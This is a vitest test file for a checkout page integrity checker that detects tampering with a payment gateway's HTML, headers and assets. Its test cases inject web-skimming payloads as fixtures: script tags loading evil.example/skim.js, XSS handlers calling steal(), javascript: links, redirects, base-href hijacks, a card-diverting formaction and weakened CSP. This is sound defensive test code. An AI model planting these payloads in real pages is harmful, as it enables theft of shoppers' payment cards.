import { describe, expect, test } from "vitest";
import { loadPageAssets } from "../public-pages/checkout/page-assets.ts";
import { renderPage } from "../public-pages/checkout/render-page.ts";
import { html } from "@holdfast/html";
import { compareAsset, comparePage, wayOnward, type Received } from "./compare-page.ts";
import { describeRelease } from "./page-release.ts";

const NONCE = "AAAAAAAAAAAAAAAAAAAAAA==";
const URL_ = "https://pay.example/gateway/checkout/1";
const release = describeRelease();
const assets = loadPageAssets("https://pay.example/gateway");

/** The page as this version sends it, with a form. */
function received(
  change: { headers?: Record<string, string>; body?: (body: string) => string } = {},
): Received {
  const headers = Object.entries(release.headers).map(([name, value]) => [
    name,
    value.replaceAll("{nonce}", NONCE).replaceAll("{base}", "/gateway"),
  ]);
  const path = "/gateway/checkout/1";
  const frame = { assets, locale: { language: "tr", locale: "tr-TR" }, nonce: NONCE, path } as const;
  const body = renderPage(frame, html`<form method="post" action="${path}/pay?lang=tr"></form>`);
  return {
    url: URL_,
    headers: {
      ...Object.fromEntries(headers),
      date: "now",
      "x-request-id": "1",
      "strict-transport-security": "max-age=31536000",
      ...change.headers,
    },
    body: (change.body ?? ((text) => text))(body),
  };
}

const differences = (change?: Parameters<typeof received>[0]) =>
  comparePage(received(change), release).map(({ what }) => what);

const BRANDING = {
  name: "Ada's Lamps",
  color: "#7a1f5c",
  logo: '<svg viewBox="0 0 24 24"><path d="M4 4h16v16H4z" fill="#7a1f5c"/></svg>',
};

/** A merchant's page, whose colour and logo are no difference. */
function branded(change: (body: string) => string = (body) => body): string[] {
  const path = "/gateway/checkout/1";
  const locale = { language: "en", locale: "en" } as const;
  const frame = { assets, locale, nonce: NONCE, path, merchantName: "Ada's Lamps", branding: BRANDING };
  return differences({ body: () => change(renderPage(frame, html``)) });
}

test("a merchant's colour and logo are no difference, and whatever else is done by them is one", () => {
  expect(branded()).toEqual([]);
  expect(branded((body) => body.replace("--on-accent:#ffffff", "--on-accent:url(//evil.example)"))).toEqual([
    "tag",
  ]);
  expect(
    branded((body) => body.replace("</style>", "input{background:url(//evil.example)}</style>")),
  ).toEqual(["tag"]);
  expect(branded((body) => body.replace("</style>", `</style><style nonce="${NONCE}">p{}</style>`))).toEqual([
    "tag",
  ]);
  expect(branded((body) => body.replace(/<style [^]*?<\/style>/, (style) => style + style))).toEqual(["tag"]);
  expect(branded((body) => body.replace("<path", '<path onclick="steal()"'))).toEqual(["tag"]);
});

test("a page of this version has no difference, in whatever language and under whatever path", () => {
  expect(differences()).toEqual([]);
  expect(
    differences({
      body: (text) =>
        text.replace("</head>", '<noscript><meta http-equiv="refresh" content="5" /></noscript></head>'),
    }),
  ).toEqual([]);
});

describe("a page that leads back to the shop", () => {
  const shop = "https://shop.example/done?order=1&paid=1";
  const leading = (change: (body: string) => string = (body) => body) => {
    const path = "/gateway/checkout/1";
    const frame = { assets, locale: { language: "en", locale: "en" }, nonce: NONCE, path } as const;
    return differences({ body: () => change(renderPage(frame, html``, { onwardUrl: shop })) });
  };
  const address = shop.replace("&", "&amp;");

  test("has no difference", () => {
    expect(leading()).toEqual([]);
    expect(wayOnward(`<main data-onward="${address}">`)).toBe(address);
  });

  test.each([
    [
      "without a script leads elsewhere",
      ["tag", "tag"],
      (body: string) => body.replace(`url=${address}`, "url=//evil.example"),
    ],
    [
      "by its script leads elsewhere",
      ["tag", "tag"],
      (body: string) => body.replace(`onward="${address}`, 'onward="https://evil.example'),
    ],
    [
      "leads to no address of the web",
      ["tag", "a way onward"],
      (body: string) => body.replaceAll(address, "data:text/html,steal"),
    ],
    [
      "has a second way",
      ["a way onward"],
      (body: string) => body.replace("<header", '<header data-onward="//evil.example"'),
    ],
    [
      "takes a card",
      ["tag", "a way onward"],
      (body: string) => body.replace("</main>", '<form action="/gateway/checkout/1"></form></main>'),
    ],
  ])("is one that differs if it %s", (_case, expected, change) => {
    expect(leading(change)).toEqual(expected);
  });
});

describe("a change on the way is a difference:", () => {
  const policy = received().headers["content-security-policy"]!;
  test.each([
    [
      "a policy that allows more",
      { "content-security-policy": policy.replace("script-src", "script-src *") },
    ],
    ["no policy", { "content-security-policy": "" }],
    ["a second policy", { "content-security-policy": `${policy}, default-src *` }],
    [
      "a policy that reports to somebody else",
      { "content-security-policy": policy.replace("/csp", "//evil.example/csp") },
    ],
  ])("%s", (_case, headers) => {
    expect(differences({ headers })).toContain("header content-security-policy");
  });

  test.each([
    ["a cookie", { "set-cookie": "a=b" }, "header set-cookie"],
    ["a preload", { link: "<https://evil.example/a.js>; rel=preload" }, "header link"],
    ["a cache", { age: "10" }, "header age"],
    ["frames", { "x-frame-options": "SAMEORIGIN" }, "header x-frame-options"],
    ["no TLS from now on", { "strict-transport-security": "max-age=0" }, "header strict-transport-security"],
  ])("%s", (_case, headers, what) => {
    expect(differences({ headers })).toEqual([what]);
  });

  test.each([
    ["a script", '<script src="https://evil.example/skim.js"></script>'],
    ["a script in capitals with our nonce", `<SCRIPT nonce="${NONCE}">steal()</SCRIPT>`],
    ["a script that never ends", "<script src=//evil.example"],
    ["a script behind a tag that looks like its attribute", '<script data-a="<" src="//evil.example">'],
    [
      "our script once more",
      `<${release.tags[1]!.replaceAll("{nonce}", NONCE).replaceAll("{base}", "/gateway")}>`,
    ],
    ["a frame", '<iframe src="https://evil.example"></iframe>'],
    ["a handler", '<img src="x" onerror="steal()">'],
    ["a handler behind a slash", "<svg/onload=steal()>"],
    ["another base", '<base href="https://evil.example/">'],
    ["a way to somewhere else", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["a script's address", '<a href="javascript:steal()">'],
    ["a button that sends the card elsewhere", '<button formaction="https://evil.example">'],
  ])("%s", (_case, added) => {
    expect(differences({ body: (text) => text.replace("</body>", `${added}</body>`) })).toEqual(["tag"]);
  });

  test("a form's page that leads onward", () => {
    const onward = (text: string) => text.replace("<main", '<main data-onward="https://evil.example"');
    expect(differences({ body: onward })).toEqual(["a way onward"]);
  });

  test("a form that goes elsewhere", () => {
    const elsewhere = (text: string) => text.replace('action="/gateway/', 'action="https://evil.example/');
    expect(differences({ body: elsewhere })).toEqual(["a form's action"]);
  });

  test("a script without its digest, and one that is missing", () => {
    expect(differences({ body: (text) => text.replaceAll(/integrity="[^"]+"/g, "") })).toEqual([
      "tag",
      "tag",
      "tag",
      "tag",
    ]);
    expect(differences({ body: (text) => text.replace(/<script[^]+<\/script>/, "") })).toEqual(["tag"]);
  });
});

test("a file is compared by its bytes and its headers", () => {
  const [script] = release.assets;
  const { body } = assets.script;
  const url = `https://pay.example${assets.script.href}`;
  const headers = { ...script!.headers, "strict-transport-security": "max-age=31536000" };
  expect(compareAsset({ url, headers, body }, script!)).toEqual([]);
  const changed = compareAsset(
    { url, headers: { ...headers, "content-type": "text/html" }, body: `${body} ` },
    script!,
  );
  expect(changed.map(({ what }) => what)).toEqual([
    `SHA-256 of ${script!.path}`,
    `header content-type of ${script!.path}`,
  ]);
});
